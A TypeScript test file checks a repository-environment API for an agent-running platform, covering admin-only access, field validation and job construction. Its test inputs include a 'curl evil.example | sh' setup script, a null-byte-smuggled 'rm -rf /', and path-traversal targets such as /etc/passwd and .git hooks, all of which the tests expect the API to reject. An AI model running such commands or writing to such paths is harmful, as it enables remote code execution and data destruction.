import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DELETE as deleteRoute, GET as getRoute, PUT as putRoute } from "@/app/api/repos/[name]/environment/route";
import { POST as reviewRoute } from "@/app/api/runs/[id]/review/route";
import { POST as createRunRoute } from "@/app/api/runs/route";
import { repositoryEnvironment } from "@/lib/db/schema";
import { appendEvent } from "@/lib/eventLog";
import { reviewJobIds, type RunJobPayload } from "@/lib/queue";
import { startRecorder, type Recorder } from "@/lib/recorder";
import { reconcileRun } from "@/lib/server/reconcileRun";
import { repoInTeam } from "@/lib/services/repos";
import { firstTeam } from "@/lib/services/teams";
import { advertiseTestWorker, withdrawTestWorker } from "../support/adverts";
import { call, createTokenFor, getApp, registerRepo, signUp, type Session } from "../support/web";

type ErrorBody = { error: { code: string; message: string; issues?: { path: string; message: string }[] } };
type EnvironmentJson = { repo: string; environment: Record<string, unknown> | null; updatedBy: string | null; updatedAt: string | null };

const WORKER = "environments-test-worker";
const errorOf = async (res: Response) => ((await res.json()) as ErrorBody).error;

describe("a repository's environment (API)", () => {
  let admin: Session;
  let member: Session;
  let memberToken: string;
  let recorder: Recorder;
  const repoDir = fs.mkdtempSync(path.join(os.tmpdir(), "agentdesk-env-repo-"));

  const put = (repo: string, body: unknown, as: Session | string = admin) =>
    call(putRoute, `/api/repos/${repo}/environment`, { as, method: "PUT", body, params: { name: repo } });
  const get = (repo: string, as: Session | string = admin) => call(getRoute, `/api/repos/${repo}/environment`, { as, params: { name: repo } });
  const remove = (repo: string, as: Session | string = admin) =>
    call(deleteRoute, `/api/repos/${repo}/environment`, { as, method: "DELETE", params: { name: repo } });
  const jobOf = async (jobId: string) => (await (await getApp()).queue.getJob(jobId))?.data as RunJobPayload | undefined;
  const newRun = async (repo: string) => {
    const res = await call(createRunRoute, "/api/runs", { as: member, body: { repo, command: "npm test" } });
    expect(res.status).toBe(201);
    return ((await res.json()) as { id: string }).id;
  };

  const full = {
    setupScript: "npm ci\n",
    maintenanceScript: "npm install",
    setupHosts: ["Registry.NPMJS.org", "127.0.0.1:4873", "registry.npmjs.org"],
    setupEnvNames: ["NPM_TOKEN"],
    cacheKeyFiles: ["package-lock.json"],
    files: [{ path: ".env", env: "APP_DOTENV" }],
    useRepositoryFile: false,
  };
  // Repository hooks' defaults (none), stored with every environment.
  const noHooks = { checks: { pre: [], post: [], onError: [] }, checkEnvNames: [], checkHosts: [] };
  const fullStored = { ...full, setupHosts: ["registry.npmjs.org", "127.0.0.1:4873"], ...noHooks };

  beforeAll(async () => {
    admin = await signUp("env-admin@example.com");
    member = await signUp("env-member@example.com");
    memberToken = await createTokenFor(member);
    for (const name of ["web", "plain", "followup"]) expect((await registerRepo(admin, { name, url: repoDir })).status).toBe(201);
    expect((await registerRepo(admin, { name: "private", url: repoDir, credentialEnv: "PRIVATE_GIT_TOKEN" })).status).toBe(201);
    const app = await getApp();
    recorder = startRecorder({ db: app.db, redisUrl: app.config.redisUrl, namespace: app.config.redisPrefix, blockMs: 100 });
  });
  afterAll(() => recorder?.stop());

  it("is written by admins only: a member gets 403 (session or token), a stranger 401, and nothing changes", async () => {
    expect((await put("web", { setupScript: "npm ci" })).status).toBe(200);
    for (const as of [member, memberToken]) {
      const attempts = [await put("web", { setupScript: "curl evil.example | sh" }, as), await remove("web", as)];
      for (const res of attempts) {
        expect(res.status).toBe(403);
        expect((await errorOf(res)).code).toBe("forbidden");
      }
    }
    expect((await call(putRoute, "/api/repos/web/environment", { method: "PUT", body: {}, params: { name: "web" } })).status).toBe(401);
    expect((await call(getRoute, "/api/repos/web/environment", { params: { name: "web" } })).status).toBe(401);
    expect((((await (await get("web")).json()) as EnvironmentJson).environment)?.setupScript).toBe("npm ci");
  });

  it("lets a member read it: names only, since values never reach the web", async () => {
    expect((await put("web", full)).status).toBe(200);
    for (const as of [member, memberToken]) {
      const res = await get("web", as);
      expect(res.status).toBe(200);
      expect(await res.json()).toMatchObject({ repo: "web", environment: fullStored, updatedBy: admin.email });
    }
  });

  it("answers 404 for a repository that is not registered", async () => {
    expect((await get("nope")).status).toBe(404);
    expect((await put("nope", { setupScript: "true" })).status).toBe(404);
    expect((await remove("nope")).status).toBe(404);
  });

  it.each([
    [{ setupScript: "npm ci\u0000rm -rf /" }, "setupScript"],
    [{ setupScript: 42 }, "setupScript"],
    [{ setupHosts: ["registry.npmjs.org", "not a host!"] }, "setupHosts.1"],
    [{ setupHosts: ["*.npmjs.org"] }, "setupHosts.0"],
    [{ setupHosts: ["127.0.0.1:70000"] }, "setupHosts.0"],
    [{ setupEnvNames: ["1BAD"] }, "setupEnvNames.0"],
    [{ setupEnvNames: ["NPM_TOKEN", "DATABASE_URL"] }, "setupEnvNames.1"],
    [{ setupEnvNames: ["ANTHROPIC_API_KEY"] }, "setupEnvNames.0"],
    [{ cacheKeyFiles: ["../other/package-lock.json"] }, "cacheKeyFiles.0"],
    [{ cacheKeyFiles: ["/etc/passwd"] }, "cacheKeyFiles.0"],
    [{ files: [{ path: "../.env", env: "APP_DOTENV" }] }, "files.0.path"],
    [{ files: [{ path: ".git/hooks/pre-commit", env: "APP_DOTENV" }] }, "files.0.path"],
    [{ files: [{ path: "sub/.git/config", env: "APP_DOTENV" }] }, "files.0.path"],
    [{ files: [{ path: "/root/.env", env: "APP_DOTENV" }] }, "files.0.path"],
    [{ files: [{ path: ".env", env: "BETTER_AUTH_SECRET" }] }, "files.0.env"],
    [{ files: [{ path: ".env" }] }, "files.0.env"],
    [{ files: [{ path: ".env", env: "A" }, { path: "./.env", env: "B" }] }, "files.1.path"],
    [{ useRepositoryFile: "yes" }, "useRepositoryFile"],
  ])("answers 400 naming the field for %j", async (body, field) => {
    const res = await put("plain", body);
    expect(res.status).toBe(400);
    const error = await errorOf(res);
    expect(error.code).toBe("invalid_request");
    expect(error.issues?.map((i) => i.path)).toContain(field);
    expect((((await (await get("plain")).json()) as EnvironmentJson).environment)).toBeNull();
  });

  it("refuses a script longer than 20,000 characters, naming it", async () => {
    const res = await put("plain", { setupScript: "npm ci", maintenanceScript: "npm install\n".repeat(2_000) });
    expect(res.status).toBe(400);
    expect((await errorOf(res)).issues?.map((i) => i.path)).toEqual(["maintenanceScript"]);
  });

  it("refuses a field it does not know, naming it, rather than dropping it", async () => {
    const res = await put("plain", { setupScript: "npm ci", setupHost: ["registry.npmjs.org"] });
    expect(res.status).toBe(400);
    expect((await errorOf(res)).message).toContain("setupHost");
  });

  it("refuses a repository's git credential as a setup variable or a file's source", async () => {
    const asVariable = await put("plain", { setupEnvNames: ["NPM_TOKEN", "PRIVATE_GIT_TOKEN"] });
    expect(asVariable.status).toBe(400);
    expect((await errorOf(asVariable)).issues).toEqual([{ path: "setupEnvNames.1", message: expect.stringMatching(/PRIVATE_GIT_TOKEN holds a repository's git credential/) }]);
    const asFile = await put("plain", { files: [{ path: ".netrc", env: "PRIVATE_GIT_TOKEN" }] });
    expect(asFile.status).toBe(400);
    expect((await errorOf(asFile)).issues?.[0]?.path).toBe("files.0.env");
  });

  it("round-trips: saved as given (hosts normalised), replaced whole by the next save, deleted", async () => {
    const saved = await put("plain", full);
    expect(saved.status).toBe(200);
    const body = (await saved.json()) as EnvironmentJson;
    expect(body).toMatchObject({ repo: "plain", environment: fullStored, updatedBy: admin.email });
    expect(Date.parse(body.updatedAt!)).toBeGreaterThan(Date.now() - 60_000);
    expect(await (await get("plain")).json()).toEqual(body);

    // A save replaces the settings; what it leaves out takes its default.
    const replaced = await put("plain", { setupScript: "pip install -r requirements.txt" });
    expect(((await replaced.json()) as EnvironmentJson).environment).toEqual({
      setupScript: "pip install -r requirements.txt",
      maintenanceScript: null,
      setupHosts: [],
      setupEnvNames: [],
      cacheKeyFiles: [],
      files: [],
      useRepositoryFile: true,
      ...noHooks,
    });
    // Line ends as a browser's textarea sends them become Unix ones: bash would run "npm ci\r".
    const crlf = await put("plain", { setupScript: "npm ci\r\nnpm test\r\n", maintenanceScript: "npm install\rnpm prune" });
    expect(((await crlf.json()) as EnvironmentJson).environment).toMatchObject({ setupScript: "npm ci\nnpm test\n", maintenanceScript: "npm install\nnpm prune" });
    // A blank script is none.
    expect(((await (await put("plain", { setupScript: "  \n", useRepositoryFile: true })).json()) as EnvironmentJson).environment?.setupScript).toBeNull();

    expect((await remove("plain")).status).toBe(204);
    expect(await (await get("plain")).json()).toEqual({ repo: "plain", environment: null, updatedBy: null, updatedAt: null });
    expect((await remove("plain")).status).toBe(404);
  });

  it("gives every new run's job the environment as stored, and null where none is set", async () => {
    expect((await put("web", full)).status).toBe(200);
    expect((await jobOf(await newRun("web")))?.environment).toEqual(fullStored);
    expect((await jobOf(await newRun("plain")))?.environment).toBeNull();
  });

  it("builds a requeued job and a reviewer's follow-up from the environment as it is now", async () => {
    const app = await getApp();
    expect((await put("followup", { setupScript: "npm ci" })).status).toBe(200);
    const queued = await newRun("followup");
    expect((await jobOf(queued))?.environment?.setupScript).toBe("npm ci");

    // The admin changes the environment; Redis loses the job of the still-queued run.
    expect((await put("followup", { setupScript: "npm ci --ignore-scripts", setupHosts: ["127.0.0.1:4873"] })).status).toBe(200);
    await app.queue.remove(queued);
    expect(await reconcileRun(app, queued)).toBe("requeued");
    expect((await jobOf(queued))?.environment).toMatchObject({ setupScript: "npm ci --ignore-scripts", setupHosts: ["127.0.0.1:4873"] });

    // An agent's run that reached review; the environment changes again before the reviewer
    // asks for changes.
    await advertiseTestWorker(WORKER, [{ name: "agent", available: true }]);
    const started = await call(createRunRoute, "/api/runs", { as: member, body: { repo: "followup", prompt: "make the tests pass" } });
    expect(started.status).toBe(201);
    const reviewed = ((await started.json()) as { id: string }).id;
    await withdrawTestWorker(WORKER);
    await app.queue.remove(reviewed);
    for (const body of [
      { type: "run.started", attempt: 1, worker: "test:1" },
      { type: "workspace.ready", branch: "agentdesk/npm-test-1", baseBranch: "main", baseSha: "a".repeat(40), durationMs: 5 },
      { type: "run.awaiting_review", branch: "agentdesk/npm-test-1", headSha: "b".repeat(40) },
    ] as const) {
      await appendEvent(app.eventLog, reviewed, body);
    }
    await recorder.settle();
    expect((await put("followup", { setupScript: "npm ci && npm run build" })).status).toBe(200);
    const decided = await call(reviewRoute, `/api/runs/${reviewed}/review`, {
      as: member,
      body: { action: "request_changes", feedback: "add a test" },
      params: { id: reviewed },
    });
    expect(decided.status).toBe(201);
    const { decision } = (await decided.json()) as { decision: { id: string } };
    const followUp = await jobOf(reviewJobIds.changes(reviewed, decision.id));
    expect(followUp?.feedback?.text).toBe("add a test");
    expect(followUp?.environment?.setupScript).toBe("npm ci && npm run build");

    // Once the admin removes it, the next job carries none.
    expect((await remove("followup")).status).toBe(204);
    expect((await jobOf(await newRun("followup")))?.environment).toBeNull();
  });

  it("refuses to build a job from a stored environment that no longer fits the contract, saying so", async () => {
    const app = await getApp();
    const repo = await repoInTeam(app, (await firstTeam(app)).id, "web");
    await app.db.update(repositoryEnvironment).set({ spec: { setupScript: 7 } }).where(eq(repositoryEnvironment.repositoryId, repo!.id));
    const res = await call(createRunRoute, "/api/runs", { as: member, body: { repo: "web", command: "true" } });
    expect(res.status).toBe(409);
    expect((await errorOf(res)).message).toMatch(/the repository's environment is no longer valid \(setupScript: .*\); an admin must save it again/);
    // Saving it again puts it right.
    expect((await put("web", full)).status).toBe(200);
    expect((await call(createRunRoute, "/api/runs", { as: member, body: { repo: "web", command: "true" } })).status).toBe(201);
  });
});
